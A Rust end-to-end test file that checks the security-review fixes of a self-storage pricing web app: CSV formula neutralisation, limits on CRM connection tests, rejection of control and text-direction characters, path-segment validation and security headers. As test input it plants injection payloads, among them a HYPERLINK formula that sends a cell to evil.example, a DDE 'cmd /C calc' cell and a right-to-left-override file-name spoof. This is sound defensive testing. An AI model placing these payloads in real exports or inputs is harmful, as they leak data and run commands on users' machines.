//! Findings of the security review, each through the real interface (docs/security.md lists
//! them with their defences).

use e2e::{get_ok, spawn_app, status_json, TestApp};
use serde_json::json;

/// A formula that sends the sheet's first cell away when clicked.
const EVIL_NAME: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";

/// The cells of a CSV answer (header row included).
async fn csv_cells(app: &TestApp, cookie: &str, path: &str) -> Vec<Vec<String>> {
    let r = app
        .http
        .get(app.url(path))
        .header("cookie", cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "{path}");
    assert_eq!(
        r.headers()["content-type"],
        "text/csv; charset=utf-8",
        "{path}"
    );
    let text = r.text().await.unwrap();
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[tokio::test]
async fn csv_exports_never_hold_a_live_formula_and_figures_stay_figures() {
    let app = spawn_app().await;
    let today = chrono::Utc::now().date_naive();
    jobs::seed::seed_bulk(app.db(), app.tenant.company_id.into(), 3, 30, today, 2)
        .await
        .unwrap();
    let list = get_ok(&app, "/api/v1/facilities").await;
    let id = list["facilities"][0]["id"].as_str().unwrap().to_owned();
    // The name is set through an API key, as an integrator (or a CRM pull) could.
    let (s, body) = status_json(
        app.put(
            &format!("/api/v1/facilities/{id}"),
            &json!({ "name": EVIL_NAME }),
        )
        .await,
    )
    .await;
    assert_eq!(s, 200, "{body}");
    let (s, body) = status_json(
        app.post(
            &format!("/api/v1/facilities/{id}/competitor-rates"),
            &json!({ "competitor_rates": [
                { "competitor": "@SUM(A1:A9)", "size": "10x10", "rate": 120, "promo": "-1+1" },
                { "competitor": "+cmd|' /C calc'!A0", "size": "5x5", "rate": 60 },
            ]}),
        )
        .await,
    )
    .await;
    assert_eq!(s, 201, "{body}");
    get_ok(&app, &format!("/api/v1/facilities/{id}/recommendations")).await;
    app.run_jobs().await;

    let cookie = app.session_cookie().await;
    let exports = [
        ("/app/portfolio?csv=portfolio-facilities", Some(EVIL_NAME)),
        ("/app/analytics/revpas?csv=revpas-ranking", Some(EVIL_NAME)),
        (
            "/app/analytics/lease-up?csv=lease-up-facilities",
            Some(EVIL_NAME),
        ),
        ("/app/analytics/ecri?csv=ecri-facilities", None),
        ("/app/analytics/leads?csv=lead-channels", None),
        (
            &format!("/app/facilities/{id}?csv=competitor-rates"),
            Some("@SUM(A1:A9)"),
        ),
        (&format!("/app/facilities/{id}?csv=recommendations"), None),
        (&format!("/app/facilities/{id}?csv=factors"), None),
        (&format!("/app/facilities/{id}?csv=guardrails"), None),
    ];
    let mut negative_figures = 0;
    for (path, planted) in exports {
        let cells = csv_cells(&app, &cookie, path).await;
        assert!(cells.len() > 1, "{path} has rows");
        for cell in cells.iter().flatten() {
            let first = cell.chars().next();
            assert!(
                !matches!(first, Some('=' | '+' | '@' | '\t' | '\r')),
                "{path}: a live formula cell {cell:?}"
            );
            if first == Some('-') {
                assert!(
                    cell.trim_start_matches('-')
                        .trim_start_matches('$')
                        .trim_end_matches('%')
                        .replace(',', "")
                        .parse::<f64>()
                        .is_ok(),
                    "{path}: {cell:?} starts with '-' and is not a figure"
                );
                negative_figures += 1;
            }
        }
        if let Some(planted) = planted {
            let quoted = format!("'{planted}");
            assert!(
                cells.iter().flatten().any(|c| *c == quoted),
                "{path} shows {planted:?} as text ({quoted:?}): {cells:?}"
            );
        }
    }
    // The guardrails and factors tables hold signed figures: they stayed numbers.
    assert!(negative_figures > 0, "some figure was negative and kept");
}

/// A connection test of `tenant` against `base_url`: its status, body and how long it took.
async fn connection_test(
    app: &TestApp,
    tenant: &e2e::Tenant,
    base_url: &str,
) -> (u16, serde_json::Value, std::time::Duration, Option<String>) {
    let started = std::time::Instant::now();
    let r = app
        .req_as(tenant, reqwest::Method::POST, "/api/v1/data-sources/test")
        .json(&json!({ "provider": "generic_json", "base_url": base_url, "api_key": KEY }))
        .send()
        .await
        .unwrap();
    let retry_after = r
        .headers()
        .get("retry-after")
        .map(|v| v.to_str().unwrap().to_owned());
    let (s, body) = status_json(r).await;
    (s, body, started.elapsed(), retry_after)
}

const KEY: &str = "crm-read-only-key-0042";

#[tokio::test]
async fn a_connection_test_makes_one_attempt_within_its_limit_and_few_run_at_once() {
    use e2e::receiver::{Receiver, Reply, TestCa};
    use std::time::Duration;
    /// The CRM's answer to the slow tests: far beyond the test's limit, within a pull's.
    const CRM_DELAY: Duration = Duration::from_secs(25);
    const TEST_LIMIT_MS: u64 = 5_000;
    let ca = TestCa::new();
    let app = e2e::spawn_app_with(&[
        ("OUTBOUND_ALLOW_PRIVATE_TARGETS", "127.0.0.0/8,::1"),
        ("OUTBOUND_CA_FILE", ca.pem_path()),
        ("CRM_PULL_TIMEOUT_MS", "60000"),
        ("CRM_TEST_TIMEOUT_MS", &TEST_LIMIT_MS.to_string()),
        ("CRM_TESTS_PER_COMPANY", "2"),
        ("CRM_TESTS_PER_PROCESS", "3"),
    ])
    .await;
    let limit = Duration::from_millis(TEST_LIMIT_MS);
    let other = app.create_tenant("Other Storage").await;

    // A busy CRM (429, come back in 30 s) is the answer of one attempt, not waited out.
    let busy = Receiver::start(&ca, |_, _| {
        let mut r = Reply::status(429);
        r.headers.push(("retry-after", "30".to_owned()));
        r
    })
    .await;
    let (s, body, took, _) = connection_test(&app, &app.tenant, &busy.url("")).await;
    assert_eq!(s, 422, "{body}");
    assert_eq!(
        body["error"],
        "connection: the test failed: the CRM answered HTTP 429"
    );
    assert_eq!(busy.count(), 1, "one attempt, no retry");
    assert!(took < limit, "no Retry-After wait: {took:?}");

    // A CRM that holds the request: the test ends at its own limit, not the pull's.
    let slow = Receiver::start(&ca, |_, _| Reply::status(200).after(CRM_DELAY)).await;
    let (s, body, took, _) = connection_test(&app, &app.tenant, &slow.url("")).await;
    assert_eq!(s, 422, "{body}");
    assert_eq!(
        body["error"],
        "connection: the test failed: the CRM did not answer within 5 s"
    );
    assert!(took >= limit, "held until the limit: {took:?}");
    assert!(
        took < limit * 2,
        "and let go then: {took:?} (limit {limit:?})"
    );

    // Two tests of a company run at once; a third, or a connection with its test, is refused
    // at once while they do.
    let held: Vec<_> = (0..2)
        .map(|_| {
            let (app, url) = (&app, slow.url(""));
            async move { connection_test(app, &app.tenant, &url).await }
        })
        .collect();
    let held = futures::future::join_all(held);
    let slow_url = slow.url("");
    let refused = async {
        e2e::wait_until("both tests reached the CRM", limit, || async {
            slow.count() >= 3
        })
        .await;
        let third = connection_test(&app, &app.tenant, &slow.url("")).await;
        let created = app
            .post(
                "/api/v1/data-sources",
                &json!({ "provider": "generic_json", "base_url": slow.url(""), "api_key": KEY }),
            )
            .await;
        // Another company still has the process's third place; beyond it, no one.
        let (other_first, other_second) =
            tokio::join!(connection_test(&app, &other, &slow_url), async {
                e2e::wait_until(
                    "the other company's test reached the CRM",
                    limit,
                    || async { slow.count() >= 4 },
                )
                .await;
                connection_test(&app, &other, &slow_url).await
            });
        (third, status_json(created).await, other_first, other_second)
    };
    let (held, (third, created, other_first, other_second)) = tokio::join!(held, refused);
    for (s, body, _, _) in &held {
        assert_eq!(*s, 422, "held tests end at their limit: {body}");
    }
    let (s, body, took, retry_after) = third;
    assert_eq!(s, 429, "{body}");
    assert!(
        body["error"]
            .as_str()
            .unwrap()
            .contains("2 connection tests of this account"),
        "{body}"
    );
    assert_eq!(retry_after.as_deref(), Some("5"));
    assert!(took < limit, "refused at once: {took:?}");
    assert_eq!(
        created.0, 429,
        "a connection's own test counts: {}",
        created.1
    );
    assert_eq!(other_first.0, 422, "{}", other_first.1);
    assert_eq!(other_second.0, 429, "{}", other_second.1);
    assert!(
        other_second.1["error"]
            .as_str()
            .unwrap()
            .starts_with("too many connection tests are running"),
        "{}",
        other_second.1
    );
    assert_eq!(app.count("data_sources").await, 0, "nothing was stored");
    // Once they ended, a test runs again.
    let (s, _, _, _) = connection_test(&app, &app.tenant, &busy.url("")).await;
    assert_eq!(s, 422);
    assert_eq!(busy.count(), 2);
}

/// A form post without a session (the public pages), its status, content type and text.
async fn post_form(app: &TestApp, path: &str, fields: &[(&str, &str)]) -> (u16, String, String) {
    let r = app
        .http
        .post(app.url(path))
        .form(fields)
        .send()
        .await
        .unwrap();
    let status = r.status().as_u16();
    let content_type = r.headers()["content-type"].to_str().unwrap().to_owned();
    (status, content_type, r.text().await.unwrap())
}

#[tokio::test]
async fn a_nul_or_control_character_in_a_form_is_refused_on_the_page_and_writes_nothing() {
    let app = spawn_app().await;
    let companies = app.count("companies").await;
    let cases: [(&str, Vec<(&str, &str)>); 5] = [
        (
            "/login",
            vec![("email", "a\0b@example.com"), ("password", "whatever1")],
        ),
        (
            "/signup",
            vec![
                ("company", "Nul Storage"),
                ("email", "nul\0@example.com"),
                ("password", "long enough 1"),
            ],
        ),
        (
            "/signup",
            vec![
                ("company", "Nul\0 Storage"),
                ("email", "nul@example.com"),
                ("password", "long enough 1"),
            ],
        ),
        (
            "/signup",
            vec![
                ("company", "Right\u{202E}ffo"),
                ("email", "bidi@example.com"),
                ("password", "long enough 1"),
            ],
        ),
        ("/forgot-password", vec![("email", "x\u{1}@example.com")]),
    ];
    for (path, fields) in cases {
        let (status, content_type, text) = post_form(&app, path, &fields).await;
        assert_eq!(status, 422, "{path} {fields:?}: {text}");
        assert!(
            content_type.starts_with("text/html"),
            "{path}: the page's error view"
        );
        assert!(
            text.contains("must not contain control characters"),
            "{path}: {text}"
        );
    }
    assert_eq!(app.count("companies").await, companies, "nothing written");
    assert_eq!(
        app.count("password_reset_requests").await,
        0,
        "nothing written"
    );
}

#[tokio::test]
async fn names_with_text_direction_overrides_are_refused_like_control_characters() {
    let app = spawn_app().await;
    for name in [
        "Main\u{202E}txt.exe",
        "\u{2067}Main",
        "Main\u{200F}",
        "\u{FEFF}Main",
    ] {
        let (s, body) = status_json(
            app.post("/api/v1/facilities", &json!({ "name": name }))
                .await,
        )
        .await;
        assert_eq!(s, 422, "{name:?}: {body}");
        assert!(
            body["error"]
                .as_str()
                .unwrap()
                .contains("invisible text-direction or formatting characters"),
            "{body}"
        );
        let (s, body) = status_json(
            app.sync(&json!({
                "facility": { "name": name },
                "date": "2026-11-10",
                "occupancy_pct": 90,
                "unit_types": [{ "size": "10x10", "tier": "standard", "street_rate": 100,
                                  "occupancy_pct": 90, "total_units": 10 }],
            }))
            .await,
        )
        .await;
        assert_eq!(s, 422, "sync {name:?}: {body}");
    }
    // Scripts that need the joiners keep them.
    let persian = "\u{0645}\u{06CC}\u{200C}\u{062E}\u{0648}\u{0627}\u{0647}\u{0645}";
    let (s, body) = status_json(
        app.post("/api/v1/facilities", &json!({ "name": persian }))
            .await,
    )
    .await;
    assert_eq!(s, 201, "{body}");
    assert_eq!(body["name"], persian);
    assert_eq!(app.count("facilities").await, 1);
}

#[tokio::test]
async fn a_storedge_account_id_may_not_be_a_dot_segment() {
    let app = spawn_app().await;
    for account in [".", "..", "%2e%2E", " .. "] {
        let (s, body) = status_json(
            app.post(
                "/api/v1/data-sources/test",
                &json!({ "provider": "storedge", "api_key": "k", "api_secret": "s",
                         "account_id": account }),
            )
            .await,
        )
        .await;
        assert_eq!(s, 422, "{account:?}: {body}");
        assert!(
            body["error"]
                .as_str()
                .unwrap()
                .starts_with("account_id: must not be `.` or `..`"),
            "{body}"
        );
    }
    assert_eq!(app.count("data_sources").await, 0);
}

#[tokio::test]
async fn a_connection_test_does_not_tell_internal_names_from_unknown_ones() {
    let app = spawn_app().await;
    // A name of this machine's hosts file that resolves to an internal address (`localhost`
    // itself is refused by name, before any lookup, which tells nothing).
    let hosts = std::fs::read_to_string("/etc/hosts").unwrap();
    let internal_name = hosts
        .lines()
        .filter(|l| !l.trim_start().starts_with('#'))
        .filter_map(|l| {
            let mut words = l.split_whitespace();
            let ip: std::net::IpAddr = words.next()?.parse().ok()?;
            let internal = ip.is_loopback()
                || matches!(ip, std::net::IpAddr::V4(v4) if v4.is_private() || v4.is_link_local());
            internal
                .then(|| words.find(|n| *n != "localhost" && !n.ends_with(".localhost")))
                .flatten()
                .map(str::to_owned)
        })
        .next()
        .expect("the hosts file names this machine with an internal address");
    let mut answers = Vec::new();
    for base_url in [
        format!("https://{internal_name}:9"),
        "https://no-such-host.invalid".to_owned(),
    ] {
        let (s, body, _, _) = connection_test(&app, &app.tenant, &base_url).await;
        assert_eq!(s, 422, "{base_url}: {body}");
        answers.push(body["error"].clone());
    }
    assert_eq!(answers[0], answers[1]);
    assert_eq!(
        answers[0],
        "connection: the test failed: could not connect to the CRM"
    );
}

#[tokio::test]
async fn page_rejections_are_pages_and_every_answer_says_nosniff() {
    let app = spawn_app().await;
    let cookie = app.session_cookie().await;
    let id = app.create_facility("Main").await;
    // A bad query parameter of a page: the page's error view naming it, not the API's JSON.
    let r = app
        .http
        .get(app.url(&format!("/app/facilities/{id}?days=abc")))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 422);
    assert!(r.headers()["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/html"));
    let text = r.text().await.unwrap();
    assert!(text.contains("days: invalid digit"), "{text}");
    // A form sent as something else than a form.
    let r = app
        .http
        .post(app.url("/login"))
        .header("content-type", "application/json")
        .body("{}")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 415);
    assert!(r.headers()["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/html"));
    // The not-found page of an unknown address carries the pages' security headers.
    let r = app
        .http
        .get(app.url("/no-such-page"))
        .header("accept", "text/html")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 404);
    for header in [
        "content-security-policy",
        "x-frame-options",
        "referrer-policy",
    ] {
        assert!(r.headers().contains_key(header), "404 page: {header}");
    }
    assert_eq!(r.headers()["x-content-type-options"], "nosniff");
    // The API's answers, good and bad.
    for (path, status) in [
        ("/api/v1/facilities", 200),
        ("/api/v1/no-such-endpoint", 404),
        ("/healthz", 200),
    ] {
        let r = app.get(path).await;
        assert_eq!(r.status(), status, "{path}");
        assert_eq!(r.headers()["x-content-type-options"], "nosniff", "{path}");
    }
}
